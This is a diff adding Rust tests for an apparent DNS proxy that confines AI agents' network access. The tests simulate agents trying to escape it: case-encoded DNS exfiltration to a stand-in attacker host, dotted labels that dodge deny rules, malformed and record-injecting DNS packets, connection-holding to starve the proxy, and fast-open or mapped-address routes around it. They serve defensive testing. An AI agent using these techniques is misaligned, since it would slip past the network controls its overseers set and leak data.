@@ -510,3 +510,236 @@ fn learned_addresses_survive_a_refresh_and_a_restart_and_leave_with_the_rule() {
     // Control: the host reaches it.
     assert_eq!(w.outside(&["tcp:10.77.0.1:443"]), ["ok"]);
 }
+
+// An agent's attempts on the proxy itself: letter case, odd labels, malformed messages, held
+// connections, other ways in.
+
+/// A DNS message in wire form, hex: header (id, flags, counts) then questions of raw labels.
+fn wire(id: u16, flags: u16, questions: &[(&[&[u8]], u16, u16)], counts: [u16; 3], tail: &[u8]) -> Vec<u8> {
+    let mut out = Vec::new();
+    out.extend(id.to_be_bytes());
+    out.extend(flags.to_be_bytes());
+    out.extend((questions.len() as u16).to_be_bytes());
+    for c in counts {
+        out.extend(c.to_be_bytes());
+    }
+    for (labels, qtype, class) in questions {
+        for l in *labels {
+            out.push(l.len() as u8);
+            out.extend(*l);
+        }
+        out.push(0);
+        out.extend(qtype.to_be_bytes());
+        out.extend(class.to_be_bytes());
+    }
+    out.extend(tail);
+    out
+}
+
+fn hex(bytes: &[u8]) -> String {
+    bytes.iter().map(|b| format!("{b:02x}")).collect()
+}
+
+fn framed(bytes: &[u8]) -> Vec<u8> {
+    let mut out = (bytes.len() as u16).to_be_bytes().to_vec();
+    out.extend(bytes);
+    out
+}
+
+fn q1(labels: &[&[u8]], qtype: u16) -> Vec<u8> {
+    wire(0x4242, 0x0100, &[(labels, qtype, 1)], [0, 0, 0], &[])
+}
+
+const A: u16 = 1;
+
+#[test]
+fn letter_case_carries_nothing_past_the_wildcard_budget() {
+    let w = World::new("wildcard_names = 5");
+    let gamma = w.agent("gamma", &["exfil"]);
+    // 200 queries of one name, each spelled in another case (8 bits in the first 8 letters).
+    let cased = w.inside(&gamma, &[&format!("dns-case:{UPSTREAM}/leakdata.attacker.test/200")]);
+    let seen: std::collections::HashSet<String> = queries(&w.log)
+        .into_iter()
+        .filter(|q| q.to_ascii_lowercase().starts_with("leakdata.attacker.test"))
+        .collect();
+    eprintln!("cased={cased:?} distinct spellings upstream={}", seen.len());
+    // Control: the budget does bound distinct names (1 used by leakdata, 4 left).
+    let bounded = w.inside(&gamma, &[&format!("dns-exfil:{UPSTREAM}/attacker.test/10")]);
+    assert_eq!(bounded, ["NoError=4 Refused=6"]);
+    // The documented bound: at most wildcard_names (5) distinct query names leave per window.
+    assert!(seen.len() <= 5, "{} distinct spellings of one name reached the upstream: {cased:?}", seen.len());
+}
+
+#[test]
+fn a_label_with_a_dot_is_refused_not_judged_as_another_name() {
+    let w = World::new("");
+    let alpha = w.agent("alpha", &["mirror"]);
+    // Control: the deny holds for the plain name, and a sibling of mirror.test has no rule.
+    let plain = w.inside(&alpha, &[&ask("bad.mirror.test", "A"), &ask("evil.test", "A")]);
+    assert_eq!((field(&plain[0], "rcode"), field(&plain[1], "rcode")), ("Refused", "Refused"));
+    // One label "bad.mirror" under "test" (a name no rule allows: its parent is test), and
+    // "evil.x" + "mirror.test"'s labels... judged after escaping as "bad\.mirror.test".
+    let odd = w.inside(
+        &alpha,
+        &[
+            &format!("dns-raw-udp:{UPSTREAM}/{}", hex(&q1(&[b"bad.mirror", b"test"], A))),
+            &format!("dns-raw-udp:{UPSTREAM}/{}", hex(&q1(&[b"evil.mirror", b"test"], A))),
+        ],
+    );
+    eprintln!("odd={odd:?} upstream={:?}", queries(&w.log));
+    let leaked: Vec<String> = queries(&w.log).into_iter().filter(|q| q.contains("\\.")).collect();
+    assert!(leaked.is_empty(), "names outside every rule were asked upstream: {leaked:?} ({odd:?})");
+}
+
+#[test]
+fn malformed_and_odd_queries_never_go_upstream_and_the_proxy_keeps_answering() {
+    let w = World::new("");
+    let alpha = w.agent("alpha", &["llm"]);
+    let other: &[&[u8]] = &[b"other", b"test"];
+    let allowed: &[&[u8]] = &[b"api", b"llm", b"test"];
+    // An A record for 10.77.0.2 (answer/additional injection), name by pointer to offset 12.
+    let rr_a = [0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 10, 77, 0, 2];
+    let mut opt = vec![0, 0, 41, 0x04, 0xd0, 0, 0, 0, 0];
+    // EDNS options: client subnet (8), cookie (10), padding (12), an unknown one.
+    let opts: Vec<u8> = [
+        vec![0, 8, 0, 7, 0, 1, 24, 0, 10, 77, 0],
+        vec![0, 10, 0, 8, 1, 2, 3, 4, 5, 6, 7, 8],
+        vec![0, 12, 0, 4, 0, 0, 0, 0],
+        vec![0xfd, 0xe9, 0, 3, b'a', b'b', b'c'],
+    ]
+    .concat();
+    opt.extend((opts.len() as u16).to_be_bytes());
+    opt.extend(&opts);
+    let mut loop_name = wire(0x4242, 0x0100, &[], [0, 0, 0], &[]);
+    loop_name[5] = 1; // QDCOUNT 1, name is a pointer to itself
+    loop_name.extend([0xc0, 0x0c, 0, 1, 0, 1]);
+    let long_labels: Vec<Vec<u8>> = (0..5).map(|_| vec![b'a'; 63]).collect();
+    let long: Vec<&[u8]> =
+        long_labels.iter().map(Vec::as_slice).chain([b"llm".as_slice(), b"test"]).collect();
+    let cases: Vec<(&str, Vec<u8>)> = vec![
+        ("qd0", wire(1, 0x0100, &[], [0, 0, 0], &[])),
+        ("qd2", wire(2, 0x0100, &[(allowed, A, 1), (other, A, 1)], [0, 0, 0], &[])),
+        ("qd2-rev", wire(3, 0x0100, &[(other, A, 1), (allowed, A, 1)], [0, 0, 0], &[])),
+        ("response", wire(4, 0x8180, &[(other, A, 1)], [0, 0, 0], &[])),
+        ("ptr-loop", loop_name),
+        ("truncated", q1(other, A)[..20].to_vec()),
+        ("long", q1(&long, A)),
+        ("update", wire(5, 0x2800, &[(other, A, 1)], [0, 0, 0], &[])),
+        ("chaos", wire(6, 0x0100, &[(&[b"version", b"bind"], 16, 3)], [0, 0, 0], &[])),
+        ("class-any", wire(7, 0x0100, &[(other, A, 255)], [0, 0, 0], &[])),
+        ("answer-inj", wire(8, 0x0100, &[(allowed, A, 1)], [1, 0, 0], &rr_a)),
+        ("add-inj", wire(9, 0x0100, &[(allowed, A, 1)], [0, 0, 1], &rr_a)),
+        ("edns-opts", wire(10, 0x0100, &[(allowed, A, 1)], [0, 0, 1], &opt)),
+        ("edns-other", wire(11, 0x0100, &[(other, A, 1)], [0, 0, 1], &opt)),
+        ("trailing-junk", [q1(other, A), vec![0xde, 0xad]].concat()),
+        ("type-any", q1(allowed, 255)),
+        ("type-0", q1(allowed, 0)),
+        ("type-cname", q1(allowed, 5)),
+        ("root", wire(12, 0x0100, &[(&[], A, 1)], [0, 0, 0], &[])),
+        ("nul-label", q1(&[b"api\0", b"llm", b"test"], A)),
+        ("star", q1(&[b"*", b"llm", b"test"], A)),
+    ];
+    let ops: Vec<String> = cases.iter().map(|(_, b)| format!("dns-raw-udp:{UPSTREAM}/{}", hex(b))).collect();
+    let got = w.inside(&alpha, &ops.iter().map(String::as_str).collect::<Vec<_>>());
+    for ((name, _), out) in cases.iter().zip(&got) {
+        eprintln!("udp {name}: {out}");
+    }
+    // TCP: two queries in one write (pipelined), a zero-length frame, a partial frame, a
+    // 65535-byte frame of junk.
+    let pipelined = [framed(&q1(allowed, A)), framed(&q1(other, A)), framed(&q1(allowed, 28))].concat();
+    let tcp_cases: Vec<(&str, Vec<u8>)> = vec![
+        ("pipelined", pipelined),
+        ("zero", vec![0, 0]),
+        ("partial", [vec![0, 100], q1(other, A)].concat()),
+        ("big-junk", [vec![0x20, 0x00], vec![0x41; 0x2000]].concat()),
+        ("split-len", vec![0]),
+    ];
+    let ops: Vec<String> =
+        tcp_cases.iter().map(|(_, b)| format!("dns-raw-tcp:{UPSTREAM}/{}", hex(b))).collect();
+    let tcp = w.inside(&alpha, &ops.iter().map(String::as_str).collect::<Vec<_>>());
+    for ((name, _), out) in tcp_cases.iter().zip(&tcp) {
+        eprintln!("tcp {name}: {out}");
+    }
+    eprintln!("upstream saw {:?}", queries(&w.log));
+    // Nothing but api.llm.test (A, AAAA) was ever asked upstream.
+    let asked: Vec<String> =
+        queries(&w.log).into_iter().filter(|q| !q.starts_with("api.llm.test ")).collect();
+    assert!(asked.is_empty(), "{asked:?}");
+    // The injected 10.77.0.2 was not learned; the proxy still answers (UDP and TCP).
+    assert_eq!(w.inside(&alpha, &["tcp:10.77.0.2:443"]), ["EPERM"]);
+    let after = w.inside(&alpha, &[&ask("api.llm.test", "A"), &format!("dns-tcp:{UPSTREAM}/api.llm.test/A")]);
+    for a in &after {
+        assert_eq!(field(a, "answers"), "10.77.0.1", "{a}");
+    }
+    assert!(w.daemon.agents().contains("alpha"));
+}
+
+#[test]
+fn one_agent_holding_tcp_connections_takes_only_its_share_of_the_proxy() {
+    let w = World::new("");
+    let alpha = w.agent("alpha", &["llm"]);
+    let mallory = w.agent("mallory", &[]);
+    // Control: alpha's TCP DNS works.
+    let before = &w.inside(&alpha, &[&format!("dns-tcp:{UPSTREAM}/api.llm.test/A")])[0];
+    assert_eq!(field(before, "answers"), "10.77.0.1", "{before}");
+    // mallory (no rules at all) opens 300 connections to "the resolver", and would keep each
+    // busy with a refused query every 5 s. The proxy accepts connections in order: by the time
+    // it takes alpha's, it has dealt with all of mallory's (which, with one pool for all
+    // agents, took every connection it has).
+    let keep = hex(&framed(&q1(&[b"keep", b"alive", b"invalid"], A)));
+    let mut hold = std::process::Command::new(probe_bin());
+    hold.arg("--netns").arg(w.ns.path()).arg("--cgroup").arg(&mallory);
+    hold.args(["dns-hold", UPSTREAM, "300", "10", &keep]);
+    let mut hold = Proc::spawn(hold);
+    let held = hold.line();
+    assert!(held.starts_with("held "), "{held}");
+    let during =
+        w.inside(&alpha, &[&format!("dns-tcp:{UPSTREAM}/api.llm.test/A"), &ask("api.llm.test", "A")]);
+    drop(hold);
+    assert!(during[1].contains("answers=10.77.0.1"), "UDP control: {}", during[1]);
+    assert!(
+        during[0].contains("answers=10.77.0.1"),
+        "alpha's TCP DNS failed while mallory held connections ({held}): {}",
+        during[0]
+    );
+}
+
+#[test]
+fn fast_open_sendmmsg_and_mapped_addresses_all_go_to_the_own_proxy() {
+    let w = World::new("");
+    let alpha = w.agent("alpha", &["llm"]);
+    let _beta = w.agent("beta", &["llm", "mirror"]);
+    let other = hex(&framed(&q1(&[b"other", b"test"], A)));
+    let allowed = hex(&framed(&q1(&[b"api", b"llm", b"test"], A)));
+    let other_udp = hex(&q1(&[b"other", b"test"], A));
+    let got = w.inside(
+        &alpha,
+        &[
+            &format!("tfo:{UPSTREAM}/{allowed}"),
+            &format!("tfo:{UPSTREAM}/{other}"),
+            &format!("tfo:[::ffff:10.77.0.53]:53/{other}"),
+            &format!("tfo:127.53.0.2:10053/{other}"),
+            &format!("tfo:127.53.0.1:10053/{other}"),
+            &format!("tfo:127.0.0.1:10053/{other}"),
+            &format!("sendmmsg:{UPSTREAM}/{other_udp}/8"),
+            &format!("sendmmsg:127.53.0.2:10053/{other_udp}/8"),
+            &format!("sendmmsg:[::ffff:127.53.0.2]:10053/{other_udp}/8"),
+            &format!("sendmmsg:[::ffff:10.77.0.53]:53/{other_udp}/8"),
+            &format!("sendmmsg:[fd77::1]:53/{other_udp}/8"),
+            &format!("dns-raw-udp:[::ffff:10.77.0.53]:53/{other_udp}"),
+            &format!("dns-raw-udp:127.0.0.1:10053/{other_udp}"),
+            &format!("dns-raw-udp:0.0.0.0:53/{other_udp}"),
+            &format!("dns-raw-udp:0.0.0.0:10053/{other_udp}"),
+            &format!("dns-raw-udp:127.53.255.255:10053/{other_udp}"),
+            &format!("dns-raw-tcp:[::]:53/{other}"),
+        ],
+    );
+    for g in &got {
+        eprintln!("{g}");
+    }
+    eprintln!("upstream {:?}", queries(&w.log));
+    assert_eq!(w.upstream_saw("other.test"), 0);
+    // Control: from outside the agents, fast open reaches the resolver itself.
+    let control = w.outside(&[&format!("tfo:{UPSTREAM}/{other}")]);
+    eprintln!("control {control:?}");
+}
